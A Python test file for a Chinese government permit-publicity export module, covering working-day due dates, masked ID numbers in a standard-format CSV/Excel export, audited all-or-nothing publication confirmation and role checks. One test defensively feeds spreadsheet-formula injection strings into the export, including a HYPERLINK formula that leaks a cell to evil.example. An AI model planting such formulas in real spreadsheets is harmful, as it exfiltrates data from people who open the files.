"""双公示: due dates in working days, the export in the national standard's fields (masked IDs of
natural persons, literal cells), the all-or-nothing confirmation and its refusals, the role."""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import subprocess
import sys
from datetime import date, datetime
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook
from sqlmodel import func, select

from app import config
from app.db import transaction
from app.models import AuditEvent, Decision, Item, Publication
from app.rules.counter import cases
from app.rules.calendar import clock
from app.rules.counter import decisions
from app.rules.counter import publicity
from tests import flows

ORGAN_CODE = "11370303MB2858170B"  # a well-formed 统一社会信用代码 (check character right), not the real one
COMPANY_CODE = "91370303MA3C12345Y"
SHOP_CODE = "92370303MA3D54321D"
MASKED_ID = "1101**********002X"  # flows.VALID_ID as stored


def test_the_rule_imports_no_reflex():
    code = "import sys, app.rules.counter.publicity; assert 'reflex' not in sys.modules, 'reflex imported'"
    subprocess.run([sys.executable, "-c", code], check=True)


@pytest.fixture(autouse=True)
def organ_code(monkeypatch):
    monkeypatch.setattr(config, "settings", dataclasses.replace(config.settings, organ_credit_code=ORGAN_CODE))


@pytest.fixture()
def desk(db):
    admin, admin_key = flows.enroll_admin()
    approver_key = flows.register_key(admin, admin_key, "S001")
    approver = flows.sign_in("S001", approver_key)
    return {"admin": admin, "admin_key": admin_key, "approver": approver, "key": approver_key}


def approve(desk, applicant: str = "张晓红", id_type: str = "居民身份证", id_number: str = flows.VALID_ID) -> Decision:
    item = flows.item_id("370303-SCZT-001")
    with transaction() as s:
        n_materials = len(s.get(Item, item).materials)
    case = cases.accept_new_case(desk["approver"], item, applicant, id_type, id_number, list(range(n_materials)), True)
    return flows.sign_case(desk["approver"], desk["key"], case)


def refuse_one(desk) -> Decision:
    case = flows.accept_case(desk["approver"])
    met = flows.conditions(case)
    request = decisions.prepare(desk["approver"], case.id, met[:-1], "经审查，经营场所不符合要求，不同意许可。",
                                {str(met[-1]): "经营场所与登记住所不一致"})
    return decisions.complete(desk["approver"], request.challenge_id, desk["key"].get(request.options_json))


def decided_on(decision: Decision, day: date) -> None:
    """Move a decision to 10:00 Beijing time on `day` (the test cannot sign in the past)."""
    with transaction() as s:
        row = s.get(Decision, decision.id)
        row.decided_at = datetime(day.year, day.month, day.day, 10, tzinfo=clock.BEIJING)
        s.add(row)


def publications() -> int:
    with transaction() as s:
        return s.exec(select(func.count()).select_from(Publication)).one()


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with BOM, for Excel"
    return list(csv.reader(StringIO(data.decode("utf-8-sig"))))


def test_due_date_skips_the_national_day_holiday(desk, monkeypatch):
    early, recent = approve(desk), approve(desk, "李四")
    decided_on(early, date(2026, 9, 28))  # Monday; 10/1–10/7 off, Saturday 10/10 a make-up working day
    with transaction() as s:
        assert publicity.due_date(s, date(2026, 9, 28)) == (date(2026, 10, 13), False)
    monkeypatch.setattr(clock, "today", lambda: date(2026, 11, 27))
    decided_on(recent, date(2026, 11, 25))
    rows = publicity.pending(desk["admin"])
    assert [r.decision_id for r in rows] == [early.id, recent.id]  # the most urgent first
    assert rows[0].decided_on == date(2026, 9, 28) and rows[0].due_on == date(2026, 10, 13) and rows[0].overdue
    assert rows[1].due_on == date(2026, 12, 4) and not rows[1].overdue and not rows[1].provisional
    assert rows[0].document_number == early.document_number and rows[0].applicant_name == "张晓红"


def test_only_unpublished_approvals_are_pending(desk):
    approved, refused = approve(desk), refuse_one(desk)
    assert refused.outcome == "refused"
    assert [r.decision_id for r in publicity.pending(desk["admin"])] == [approved.id]


def test_export_has_the_standard_columns_and_masks_natural_persons(desk):
    person = approve(desk)
    company = approve(desk, "淄博市张店区示例餐饮有限公司", "统一社会信用代码", COMPANY_CODE)
    shop = approve(desk, "张店区某某便利店", "统一社会信用代码", SHOP_CODE)
    result = publicity.export(desk["admin"], "csv")
    assert result.filename.startswith("双公示-行政许可-") and result.filename.endswith(".csv")
    assert result.sha256 == hashlib.sha256(result.data).hexdigest()
    assert sorted(result.decision_ids) == sorted([person.id, company.id, shop.id])
    assert flows.VALID_ID.encode() not in result.data  # never the full ID number of a natural person
    header, *rows = read_csv(result.data)
    assert tuple(header) == publicity.COLUMNS and header[-1] == publicity.DUE_COLUMN
    for field in ("行政相对人名称", "行政相对人类别", "法定代表人", "证件类型", "证件号码", "行政许可决定文书名称",
                  "行政许可决定文书号", "许可类别", "许可证书名称", "许可编号", "许可内容", "许可决定日期", "有效期自",
                  "有效期至", "许可机关", "许可机关统一社会信用代码", "当前状态", "数据来源单位",
                  "数据来源单位统一社会信用代码", "备注"):
        assert field in header, field
    by_number = {r[header.index("行政许可决定文书号")]: dict(zip(header, r)) for r in rows}
    p, c, s = by_number[person.document_number], by_number[company.document_number], by_number[shop.document_number]
    code = header[2]
    assert code.startswith("行政相对人代码_1") and "统一社会信用代码" in code
    assert (p["行政相对人类别"], p[code], p["证件类型"], p["证件号码"], p["法定代表人"]) == \
        ("自然人", "", "居民身份证", MASKED_ID, "")
    assert (c["行政相对人类别"], c[code], c["证件类型"], c["证件号码"]) == ("法人及非法人组织", COMPANY_CODE, "", "")
    assert (s["行政相对人类别"], s[code]) == ("个体工商户", SHOP_CODE)
    today = clock.today()
    assert p["行政许可决定文书名称"] == "准予行政许可决定书" and p["许可类别"] == "其他" and "市场主体" in p["备注"]
    assert p["许可决定日期"] == p["有效期自"] == today.strftime("%Y/%m/%d") and p["有效期至"] == "2099/12/31"
    assert p["许可内容"].startswith("准予行政许可：食品经营许可") and p["当前状态"] == "1"
    assert p["许可机关"] == p["数据来源单位"] == config.settings.organ_name
    assert p["许可机关统一社会信用代码"] == p["数据来源单位统一社会信用代码"] == ORGAN_CODE
    with transaction() as session:
        due, _ = publicity.due_date(session, today)
    assert p[publicity.DUE_COLUMN] == due.strftime("%Y/%m/%d")
    # Excel: the same cells, as text.
    xlsx = publicity.export(desk["admin"], "xlsx")
    assert xlsx.filename.endswith(".xlsx") and xlsx.decision_ids == result.decision_ids
    ws = load_workbook(BytesIO(xlsx.data)).active
    sheet = [[cell.value or "" for cell in row] for row in ws.iter_rows()]
    assert tuple(sheet[0]) == publicity.COLUMNS
    assert sorted(map(tuple, sheet[1:])) == sorted(map(tuple, rows))
    # Each export is audited with its digest and decisions.
    with transaction() as session:
        events = session.exec(select(AuditEvent).where(AuditEvent.action == "publicity.exported")).all()
    assert [e.subject for e in events] == [f"publicity-export:{result.sha256}", f"publicity-export:{xlsx.sha256}"]
    assert events[0].details["decision_ids"] == result.decision_ids


def test_permit_content_and_validity_come_from_the_signed_content():
    payload = {"title": "准予行政许可决定书", "document_number": "张行审许字〔2026〕9号", "organ": "某局",
               "decided_at": "2026-03-02T09:30:00+08:00",
               "item": {"code": "X-1", "name": "某许可", "revision": 1, "legal_basis": ""},
               "applicant": {"name": "王五", "id_type": "护照", "id_number_masked": "E******9"},
               "permit": {"content": "准许在张店区经营预包装食品", "valid_from": "2026-03-02", "valid_until": "2031-03-01"}}
    row = dict(zip(publicity.COLUMNS, publicity.standard_row(payload, "市场主体", None, ORGAN_CODE, date(2026, 3, 11),
                                                             today=date(2026, 11, 27))))
    assert (row["许可内容"], row["有效期自"], row["有效期至"], row["当前状态"]) == \
        ("准许在张店区经营预包装食品", "2026/03/02", "2031/03/01", "1")
    assert (row["证件类型"], row["证件号码"], row["行政相对人类别"]) == ("护照", "E******9", "自然人")
    expired = dict(zip(publicity.COLUMNS, publicity.standard_row(payload, "", None, ORGAN_CODE, date(2026, 3, 11),
                                                                 today=date(2031, 3, 2))))
    assert expired["当前状态"] == "2"  # 无效: the validity ended
    # Without permit data (older decisions), or with empty values: from the decision day, 长期.
    for permit in (None, {"content": "", "valid_from": "", "valid_until": ""},
                   {"content": None, "valid_from": None, "valid_until": None}):
        bare = {**payload, "permit": permit} if permit is not None else {k: v for k, v in payload.items() if k != "permit"}
        row = dict(zip(publicity.COLUMNS, publicity.standard_row(bare, "", None, ORGAN_CODE, date(2026, 3, 11),
                                                                 provisional=True)))
        assert (row["许可内容"], row["有效期自"], row["有效期至"]) == ("准予行政许可：某许可", "2026/03/02", "2099/12/31")
        assert row[publicity.DUE_COLUMN] == "2026/03/11（暂定）"


def test_formula_text_is_never_a_formula(desk):
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "@SUM(1+1)", "+1+1", "-2+3"]
    for name in names:
        approve(desk, name)
    rows = read_csv(publicity.export(desk["admin"], "csv").data)[1:]
    assert sorted(r[0] for r in rows) == sorted("'" + n for n in names)  # a leading apostrophe: text in Excel
    ws = load_workbook(BytesIO(publicity.export(desk["admin"], "xlsx").data)).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(names)  # unchanged text …
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # … stored as a string, shown as text
    assert publicity.csv_cell("张三") == "张三" and publicity.csv_cell("\t=1") == "'\t=1"


def test_export_refuses_without_the_organ_code_or_anything_to_publish(desk, monkeypatch):
    flows.assert_refused(lambda: publicity.export(desk["admin"], "csv"), "publicity.nothing", audited=False)
    approve(desk)
    for fmt in ("pdf", {"fmt": "csv"}, ["csv"], None):  # whatever a client sends
        flows.assert_refused(lambda: publicity.export(desk["admin"], fmt), "input.invalid", audited=False)
    monkeypatch.setattr(config, "settings", dataclasses.replace(config.settings, organ_credit_code=""))
    err = flows.assert_refused(lambda: publicity.export(desk["admin"], "csv"), "publicity.organ_code_missing",
                               audited=False)
    assert "APP_ORGAN_CREDIT_CODE" in err.message
    monkeypatch.setattr(config, "settings",
                        dataclasses.replace(config.settings, organ_credit_code=ORGAN_CODE[:-1] + "A"))
    flows.assert_refused(lambda: publicity.export(desk["admin"], "xlsx"), "publicity.organ_code_invalid",
                         audited=False)


def test_confirm_is_all_or_nothing_and_refuses_each_bad_request(desk):
    admin = desk["admin"]
    first, second, refused = approve(desk), approve(desk, "李四"), refuse_one(desk)
    decided_on(first, date(2026, 9, 28))  # long overdue: published late
    exported = publicity.export(admin, "csv")
    ids, sha = exported.decision_ids, exported.sha256
    assert sorted(ids) == sorted([first.id, second.id])

    def refused_with(code, *args):
        before = publications()
        err = flows.assert_refused(lambda: publicity.confirm_published(admin, *args), code, audited=False)
        assert publications() == before
        assert "未登记任何公示" in err.message or code in ("publicity.no_selection", "input.invalid")
        return err

    refused_with("publicity.unknown", ids + [999999], sha, "")
    err = refused_with("publicity.not_approved", ids + [refused.id], sha, "")
    assert refused.document_number in err.message
    refused_with("publicity.export_unknown", ids, "0" * 64, "")
    refused_with("publicity.export_unknown", ids, "not a digest", "")
    refused_with("publicity.export_unknown", ids, None, "")
    later = approve(desk, "王五")  # signed after the export: not in that file
    err = refused_with("publicity.not_in_export", ids + [later.id], sha, "")
    assert later.document_number in err.message
    refused_with("publicity.no_selection", [], sha, "")
    refused_with("publicity.no_selection", [True], sha, "")
    refused_with("publicity.no_selection", {"ids": ids}, sha, "")
    refused_with("input.invalid", [first.id, first.id], sha, "")

    batch = publicity.confirm_published(admin, ids, sha.upper(), "  信用中国（山东淄博）行政许可栏目  ")
    today = clock.today()
    assert batch.batch == f"GS{today:%Y%m%d}-001" and batch.count == 2
    assert batch.late == 1 and batch.late_numbers == [first.document_number]
    assert batch.published_by == "王建国（A001）" and batch.note == "信用中国（山东淄博）行政许可栏目"
    with transaction() as s:
        rows = s.exec(select(Publication).order_by(Publication.decision_id)).all()
        event = s.exec(select(AuditEvent).where(AuditEvent.action == "publicity.published")).one()
    assert [(r.decision_id, r.batch, r.export_sha256, r.published_by) for r in rows] == \
        [(d, batch.batch, sha, admin.officer_id) for d in sorted(ids)]
    assert {r.decision_id: r.due_on for r in rows}[first.id] == date(2026, 10, 13)
    assert event.subject == f"publicity:{batch.batch}" and event.details["late"] == [first.document_number]
    assert [r.decision_id for r in publicity.pending(admin)] == [later.id]

    # Published once only; a batch with one published decision records none of the others.
    err = refused_with("publicity.already_published", ids, sha, "")
    assert batch.batch in err.message
    again = publicity.export(admin, "xlsx")
    assert again.decision_ids == [later.id]
    refused_with("publicity.already_published", [later.id, first.id], again.sha256, "")
    assert [r.decision_id for r in publicity.pending(admin)] == [later.id]
    second_batch = publicity.confirm_published(admin, [later.id], again.sha256)
    assert second_batch.batch == f"GS{today:%Y%m%d}-002" and second_batch.late == 0

    history = publicity.history(admin)
    assert [(b.batch, b.count, b.late, b.note) for b in history] == \
        [(second_batch.batch, 1, 0, ""), (batch.batch, 2, 1, "信用中国（山东淄博）行政许可栏目")]
    assert history[1].late_numbers == [first.document_number] and history[1].export_sha256 == sha
    assert publicity.pending(admin) == []


def test_only_the_working_group_may_see_export_or_confirm(desk):
    admin, admin_key = desk["admin"], desk["admin_key"]
    auditor = flows.sign_in("P001", flows.register_key(admin, admin_key, "P001"))
    approve(desk)
    exported = publicity.export(admin, "csv")
    for principal in (desk["approver"], auditor):
        for call in (lambda: publicity.pending(principal), lambda: publicity.export(principal, "csv"),
                     lambda: publicity.confirm_published(principal, exported.decision_ids, exported.sha256, ""),
                     lambda: publicity.history(principal)):
            err = flows.assert_refused(call, "role.denied", audited=False)
            assert "工作组管理员" in err.message
    assert publications() == 0
